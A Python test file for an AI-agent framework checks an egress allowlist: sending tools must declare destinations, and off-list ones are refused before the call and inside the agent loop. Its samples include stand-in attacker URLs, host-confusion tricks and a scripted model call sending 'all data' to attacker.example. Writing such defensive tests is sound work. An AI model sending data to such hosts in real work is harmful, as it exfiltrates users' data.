"""Egress (T8): a sending tool declares where its data goes; a destination off the allowlist is
refused before the call, in direct proposals and in the loop, while an allowed one goes through."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Annotated

import pytest
from pydantic import Field

from tether.core.stop import StopReason
from tether.errors import PolicyError
from tether.host import Host
from tether.policy import Approvals, Policy, Reviewer, SqliteApprovalStore, TrustedContext, propose
from tether.runs._values import Agent
from tether.testing import ScriptedModel, call, final
from tether.tools import Effect, tool

pytestmark = pytest.mark.anyio

CTX = TrustedContext(tenant="org-alpha")
SENT: list[tuple[str, str]] = []


@tool(effect=Effect.SEND, egress_argument="destination")
def send_summary(
    destination: Annotated[str, Field(max_length=200, description="Webhook URL or e-mail address.")],
    text: Annotated[str, Field(max_length=500, description="Summary to send.")],
) -> str:
    """Send a summary to a partner."""
    SENT.append((destination, text))
    return "sent"


@tool(effect=Effect.SEND)
def broadcast(text: Annotated[str, Field(description="Text.")]) -> str:
    """Send to a destination chosen by the tool (undeclared)."""
    SENT.append(("?", text))
    return "sent"


POLICY = Policy(allow={"send_summary", "broadcast"}, egress={"partner.example", "ops.example"})


def raw(destination: str) -> str:
    return json.dumps({"tool": "send_summary", "arguments": {"destination": destination, "text": "weekly"}})


@pytest.mark.spec("T8")
@pytest.mark.parametrize(
    "destination",
    [
        "https://attacker.example/hook",
        "https://partner.example.attacker.example/x",
        "https://sub.partner.example/x",
        "mallory@attacker.example",
        "https://attacker.example@partner.example.evil/x",
    ],
)
def test_destinations_off_the_allowlist_are_refused_at_intake(destination: str) -> None:
    with pytest.raises(PolicyError) as info:
        propose(CTX, raw(destination), tools=[send_summary], policy=POLICY)
    assert info.value.reason == "egress_not_allowed"
    for ok in ("https://partner.example/hook", "reports@ops.example", "HTTPS://Partner.Example./x"):
        assert propose(CTX, raw(ok), tools=[send_summary], policy=POLICY).needs_approval


@pytest.mark.spec("T8")
def test_a_sending_tool_without_declared_destinations_is_refused() -> None:
    with pytest.raises(PolicyError) as info:
        propose(CTX, '{"tool": "broadcast", "arguments": {"text": "hi"}}', tools=[broadcast], policy=POLICY)
    assert info.value.reason == "egress_undeclared"


@pytest.mark.spec("T8", "T5")
async def test_in_the_loop_a_forbidden_destination_never_reaches_the_tool_and_an_allowed_one_runs_once(
    tmp_path: Path,
) -> None:
    SENT.clear()
    host = Host(policy=POLICY, approvals=Approvals(SqliteApprovalStore(tmp_path / "a.db")))
    host.add_tools(send_summary, broadcast)
    obeying = ScriptedModel([call("send_summary", destination="https://attacker.example/x", text="all data")])
    bad = await host.run(Agent(instructions="x", model=obeying), "Send the summary.", context=CTX)
    assert bad.stop_reason is StopReason.POLICY_DENIED and "egress_not_allowed" in bad.detail
    assert SENT == []

    good_calls = ScriptedModel(
        [call("send_summary", destination="https://partner.example/h", text="weekly"), final("ok")]
    )
    agent = Agent(instructions="x", model=good_calls)
    paused = await host.run(agent, "Send the summary.", context=CTX)
    assert paused.stop_reason is StopReason.APPROVAL_REQUIRED and SENT == []
    assert host.approvals is not None
    [p] = await host.approvals.store.list_proposals(run_id=paused.run_id)
    await host.approvals.approve(Reviewer.for_all_tenants("ops"), p.id)
    done = await host.resume(agent, paused.run_id)
    assert done.stop_reason is StopReason.ACCEPTED
    assert SENT == [("https://partner.example/h", "weekly")]
    await host.aclose()
